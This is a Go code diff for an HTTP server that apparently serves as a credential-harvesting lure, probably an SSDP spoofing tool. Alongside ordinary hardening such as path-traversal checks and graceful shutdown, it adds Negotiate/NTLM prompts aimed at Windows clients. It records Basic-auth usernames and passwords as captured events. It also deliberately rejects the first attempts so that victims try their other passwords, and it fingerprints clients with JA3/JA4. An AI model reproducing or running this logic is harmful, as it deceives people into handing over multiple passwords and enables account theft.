-	// Remove /assets prefix to get the asset path
-	assetPath := strings.TrimPrefix(r.URL.Path, "/assets/")
-	filePath := filepath.Join("templates", "assets", assetPath)
-	
-	s.logger.Log("[ASSET] File path: %s", filePath)
-	
-	// Check if file exists
-	if _, err := os.Stat(filePath); os.IsNotExist(err) {
-		s.logger.Log("[ASSET] File not found: %s", filePath)
+	// Remove /assets prefix to get the asset path, refusing anything that
+	// could reach outside the assets directory
+	assetPath, ok := cleanAssetPath(strings.TrimPrefix(r.URL.Path, "/assets/"))
+	if !ok {
+		s.debug("[ASSET] Refused: %q", r.URL.Path)
 		http.NotFound(w, r)
 		return
 	}
-	
-	s.logger.Log("[ASSET] File found, serving: %s", filePath)
-	
+	s.serveAsset(w, r, assetPath, "")
+}
+
+// serveAsset serves the asset at assetPath as mimeType, or when that is
+// empty as the type the template's overrides, the extension or failing
+// those the content itself call for
+func (s *Server) serveAsset(w http.ResponseWriter, r *http.Request, assetPath, mimeType string) {
+	site := s.current.Load()
+	assets, err := site.templateManager.AssetsFS()
+	if err != nil {
+		http.NotFound(w, r)
+		return
+	}
+
 	// Check if file exists
-	if _, err := os.Stat(filePath); os.IsNotExist(err) {
+	info, err := fs.Stat(assets, assetPath)
+	if err != nil || info.IsDir() {
+		s.debug("[ASSET] Not found: %s", assetPath)
 		http.NotFound(w, r)
 		return
 	}
-	
-	// Set appropriate content type based on file extension
-	ext := strings.ToLower(filepath.Ext(assetPath))
-	switch ext {
-	case ".css":
-		w.Header().Set("Content-Type", "text/css")
-	case ".js":
-		w.Header().Set("Content-Type", "application/javascript")
-	case ".png":
-		w.Header().Set("Content-Type", "image/png")
-	case ".jpg", ".jpeg":
-		w.Header().Set("Content-Type", "image/jpeg")
-	case ".ico":
-		w.Header().Set("Content-Type", "image/x-icon")
-	case ".svg":
-		w.Header().Set("Content-Type", "image/svg+xml")
-	default:
-		w.Header().Set("Content-Type", "application/octet-stream")
+
+	s.debug("[ASSET] Serving: %s", assetPath)
+
+	content, err := fs.ReadFile(assets, assetPath)
+	if err != nil {
+		http.NotFound(w, r)
+		return
+	}
+
+	if mimeType == "" {
+		mimeType = contentType(assetPath, content, site.mimeTypes)
+	}
+	w.Header().Set("Content-Type", mimeType)
+
+	// Serve the file, compressed if the client takes it, answering
+	// conditional requests for a copy the client already has with 304
+	content = s.encodeAsset(w, r, assets, assetPath, mimeType, content)
+	w.Header().Set("ETag", s.assetTag(assetPath, w.Header().Get("Content-Encoding"), content))
+	w.Header().Set("Cache-Control", assetCacheControl)
+	if r.Method != http.MethodGet || pageResource(mimeType) {
+		http.ServeContent(w, r, assetPath, assetModTime(info), bytes.NewReader(content))
+		return
+	}
+
+	// Report a file sent whole or in part as one download, however many
+	// range requests the client splits it into
+	sw := &statusWriter{ResponseWriter: w}
+	http.ServeContent(sw, r, assetPath, assetModTime(info), bytes.NewReader(content))
+	if sw.status != http.StatusOK && sw.status != http.StatusPartialContent {
+		return
+	}
+	if s.downloads.begins(s.getClientIP(r), r.URL.Path, time.Now()) {
+		s.events.OnDownload(events.Download{Request: s.newRequest(r), Size: info.Size()})
+	}
+}
+
+// cleanAssetPath checks a requested asset path, reporting false for paths
+// that are not plain relative paths (.., empty or absolute elements,
+// backslashes, NULs) and for hidden files such as .git or .htpasswd
+func cleanAssetPath(name string) (string, bool) {
+	if !fs.ValidPath(name) || name == "." || strings.ContainsAny(name, `\`+"\x00") {
+		return "", false
 	}
-	
-	// Serve the file
-	http.ServeFile(w, r, filePath)
+	for _, elem := range strings.Split(name, "/") {
+		if strings.HasPrefix(elem, ".") {
+			return "", false
+		}
+	}
+	return name, true
+}
+
+// requiresAuth reports whether pages are behind Basic or Negotiate auth
+func (c Config) requiresAuth() bool {
+	return c.IsAuth || c.Negotiate
 }
 
-// handleAuth handles basic authentication
+// handleAuth handles Basic authentication and, when enabled, Negotiate and
+// NTLM authentication
 func (s *Server) handleAuth(w http.ResponseWriter, r *http.Request) bool {
 	authHeader := r.Header.Get("Authorization")
-	
+
 	if authHeader == "" {
-		// Request authentication
-		w.Header().Set("WWW-Authenticate", fmt.Sprintf("Basic realm=\"%s\"", s.config.Realm))
-		w.Header().Set("Content-Type", "text/html")
-		w.WriteHeader(http.StatusUnauthorized)
-		w.Write([]byte("Unauthorized."))
+		if s.negotiated(r.RemoteAddr) {
+			return true
+		}
+		s.promptAuth(w)
 		return false
 	}
 
+	if scheme, token, _ := strings.Cut(authHeader, " "); s.current.Load().config.Negotiate {
+		switch {
+		case strings.EqualFold(scheme, "Negotiate"):
+			return s.handleNegotiate(w, r, "Negotiate", token)
+		case strings.EqualFold(scheme, "NTLM"):
+			return s.handleNegotiate(w, r, "NTLM", token)
+		}
+	}
+
 	if strings.HasPrefix(authHeader, "Basic ") {
 		// Decode credentials and log them
 		encoded := strings.TrimPrefix(authHeader, "Basic ")
 		decoded, err := base64.StdEncoding.DecodeString(encoded)
 		if err == nil {
-			s.logger.Log("%sHOST: %s, BASIC-AUTH CREDS: %s", ssdp.CredsBox, s.getClientIP(r), string(decoded))
+			username, password, _ := strings.Cut(string(decoded), ":")
+			s.captured(events.Credentials{
+				Request:  s.newRequest(r),
+				Source:   events.SourceBasic,
+				Username: username,
+				Password: password,
+			})
+		}
+
+		// Refusing the first attempts draws more guesses, as users try
+		// their other passwords
+		host := s.trustedClientIP(r)
+		if retries := s.current.Load().config.AuthRetries; retries > 0 {
+			if attempt := s.authAttempt(host, retries, time.Now()); attempt <= retries {
+				s.log("%sHost: %s, refusing Basic auth attempt %d of %d", ssdp.NoteBox, host, attempt, retries)
+				s.promptAuth(w)
+				return false
+			}
 		}
 		return true
 	}
@@ -393,6 +1024,69 @@ func (s *Server) handleAuth(w http.ResponseWriter, r *http.Request) bool {
 	return false
 }
 
+// promptAuth asks the client for credentials, offering Negotiate and NTLM
+// before Basic so Windows clients pick them
+func (s *Server) promptAuth(w http.ResponseWriter) {
+	config := s.current.Load().config
+	if config.Negotiate {
+		w.Header().Add("WWW-Authenticate", "Negotiate")
+		w.Header().Add("WWW-Authenticate", "NTLM")
+	}
+	if config.IsAuth {
+		w.Header().Add("WWW-Authenticate", fmt.Sprintf("Basic realm=\"%s\"", config.Realm))
+	}
+	w.Header().Set("Content-Type", "text/html")
+	w.WriteHeader(http.StatusUnauthorized)
+	w.Write([]byte("Unauthorized."))
+}
+
+// authAttemptsTTL is how long a host's Basic auth attempts are counted
+// after its last one
+const authAttemptsTTL = time.Hour
+
+// maxAuthHosts caps how many hosts' attempts the server remembers; past it
+// a host is forgotten for each new one
+const maxAuthHosts = 10000
+
+// authAttempts are the Basic auth attempts of one host
+type authAttempts struct {
+	count int
+	at    time.Time // of the last
+}
+
+// authAttempt counts a Basic auth attempt from host, returning how many it
+// has made. Counting stops once past retries: the browser sends the
+// accepted credentials with every request after that. Hosts quiet for
+// authAttemptsTTL start over.
+func (s *Server) authAttempt(host string, retries int, now time.Time) int {
+	s.authMu.Lock()
+	defer s.authMu.Unlock()
+	if s.authAttempts == nil {
+		s.authAttempts = make(map[string]*authAttempts)
+	}
+	a, ok := s.authAttempts[host]
+	if ok && now.Sub(a.at) > authAttemptsTTL {
+		ok = false
+	}
+	if !ok {
+		for key, old := range s.authAttempts {
+			if now.Sub(old.at) > authAttemptsTTL {
+				delete(s.authAttempts, key)
+			}
+		}
+		if len(s.authAttempts) >= maxAuthHosts {
+			evictOne(s.authAttempts)
+		}
+		a = &authAttempts{}
+		s.authAttempts[host] = a
+	}
+	a.at = now
+	if a.count <= retries {
+		a.count++
+	}
+	return a.count
+}
+
 // logRequest logs HTTP requests with color coding and UTC timestamps
 func (s *Server) logRequest(r *http.Request, requestType string) {
 	clientIP := s.getClientIP(r)
@@ -411,41 +1105,156 @@ func (s *Server) logRequest(r *http.Request, requestType string) {
 	}
 
 	// Log with UTC timestamp to both console and file
-	s.logger.Log("%sHost: %s, User-Agent: %s", prefix, clientIP, userAgent)
-	s.logger.Log("               %s %s", r.Method, r.URL.Path)
+	s.log("%sHost: %s, User-Agent: %s", prefix, clientIP, userAgent)
+	s.log("               %s %s", r.Method, r.URL.Path)
+}
+
+// newRequest describes r for event subscribers
+func (s *Server) newRequest(r *http.Request) events.Request {
+	b, _ := r.Context().Value(bodyKey{}).(body)
+	site := s.current.Load()
+	var ja3, ja4 string
+	if hello := helloOf(r); hello != nil {
+		ja3, ja4 = hello.JA3(), hello.JA4()
+	}
+	return events.Request{
+		Time:          time.Now().UTC(),
+		Label:         site.config.Label,
+		Host:          s.getClientIP(r),
+		UserAgent:     r.Header.Get("User-Agent"),
+		Method:        r.Method,
+		Path:          r.URL.Path,
+		Variant:       s.abVariant(site, r),
+		Target:        targetOf(r).name,
+		ResponseID:    responseIDOf(r),
+		JA3:           ja3,
+		JA4:           ja4,
+		Body:          b.text,
+		BodyBinary:    b.binary,
+		BodyTruncated: b.truncated,
+	}
 }
 
 // getClientIP extracts the client IP from the request
 func (s *Server) getClientIP(r *http.Request) string {
+	if host := forwardedIP(r); host != "" {
+		return host
+	}
+	return peerIP(r)
+}
+
+// forwardedIP returns the client address a proxy put in X-Forwarded-For or
+// X-Real-IP, empty without either
+func forwardedIP(r *http.Request) string {
 	// Check X-Forwarded-For header first
 	if xff := r.Header.Get("X-Forwarded-For"); xff != "" {
-		return strings.Split(xff, ",")[0]
+		return strings.TrimSpace(strings.Split(xff, ",")[0])
 	}
-	
+
 	// Check X-Real-IP header
-	if xri := r.Header.Get("X-Real-IP"); xri != "" {
-		return xri
+	return strings.TrimSpace(r.Header.Get("X-Real-IP"))
+}
+
+// trustedClientIP returns the address of the client r came from as far as
+// it can be trusted: the peer, or the forwarded address when the peer is
+// one of the trusted proxies. Decisions a client must not be able to talk
+// its way around, such as scope and rate limits, use it.
+func (s *Server) trustedClientIP(r *http.Request) string {
+	peer := peerIP(r)
+	if s.trustedProxies != nil && s.trustedProxies.Contains(peer) {
+		if host := forwardedIP(r); host != "" {
+			return host
+		}
 	}
-	
-	// Fall back to RemoteAddr
-	return strings.Split(r.RemoteAddr, ":")[0]
+	return peer
 }
 
-// Close closes the server resources
+// peerIP returns the address of the peer r came in from, ignoring the
+// forwarding headers clients can set to anything
+func peerIP(r *http.Request) string {
+	// RemoteAddr may be an IPv6 address in brackets
+	if host, _, err := net.SplitHostPort(r.RemoteAddr); err == nil {
+		return host
+	}
+	return r.RemoteAddr
+}
+
+// Close gracefully shuts the HTTP server down, waiting up to the shutdown
+// timeout for in-flight requests. It is safe to call more than once. The
+// logger belongs to the caller and is left open.
 func (s *Server) Close() error {
-	if s.logger != nil {
-		return s.logger.Close()
+	s.closeOnce.Do(func() {
+		s.mu.Lock()
+		s.closed = true
+		servers := s.httpServers
+		s.mu.Unlock()
+
+		ctx, cancel := context.WithTimeout(context.Background(), s.shutdownTimeout)
+		defer cancel()
+		for _, server := range servers {
+			if err := server.Shutdown(ctx); err != nil {
+				if err := server.Close(); err != nil && s.closeErr == nil {
+					s.closeErr = err
+				}
+			}
+		}
+		s.chunks.Flush()
+		s.stopPolls()
+	})
+	return s.closeErr
+}
+
+// Start serves HTTP on address until ctx is cancelled or the server is
+// closed, draining in-flight requests before it returns. It may be called
+// once per address to serve several, such as an IPv4 and an IPv6 one.
+func (s *Server) Start(ctx context.Context, address string) error {
+	ln, err := net.Listen("tcp", address)
+	if err != nil {
+		return err
 	}
-	return nil
+	return s.Serve(ctx, ln)
 }
 
-// Start starts the HTTP server
-func (s *Server) Start(address string) error {
+// Serve is Start on a listener the caller has already bound, so binding
+// errors surface before anything is served
+func (s *Server) Serve(ctx context.Context, ln net.Listener) error {
 	server := &http.Server{
-		Addr:    address,
-		Handler: s,
+		Addr:              ln.Addr().String(),
+		Handler:           s,
+		ReadHeaderTimeout: s.timeouts.ReadHeader,
+		ReadTimeout:       s.timeouts.Read,
+		WriteTimeout:      s.timeouts.Write,
+		IdleTimeout:       s.timeouts.Idle,
+		ConnContext:       connContext,
 	}
-	
-	s.logger.Log("%sHTTP server starting on %s", ssdp.OkBox, address)
-	return server.ListenAndServe()
-}
\ No newline at end of file
+	s.mu.Lock()
+	if s.closed {
+		s.mu.Unlock()
+		ln.Close()
+		return nil
+	}
+	s.httpServers = append(s.httpServers, server)
+	s.mu.Unlock()
+	ln = s.limitConns(ln)
+	if s.tlsConfig != nil {
+		ln = &tlsListener{Listener: ln, s: s}
+	}
+
+	s.log("%sHTTP server starting on %s", ssdp.OkBox, ln.Addr())
+
+	errCh := make(chan error, 1)
+	go func() {
+		errCh <- server.Serve(ln)
+	}()
+
+	select {
+	case err := <-errCh:
+		if errors.Is(err, http.ErrServerClosed) {
+			// Closed elsewhere; Close returns once draining is done
+			return s.Close()
+		}
+		return err
+	case <-ctx.Done():
+		return s.Close()
+	}
+}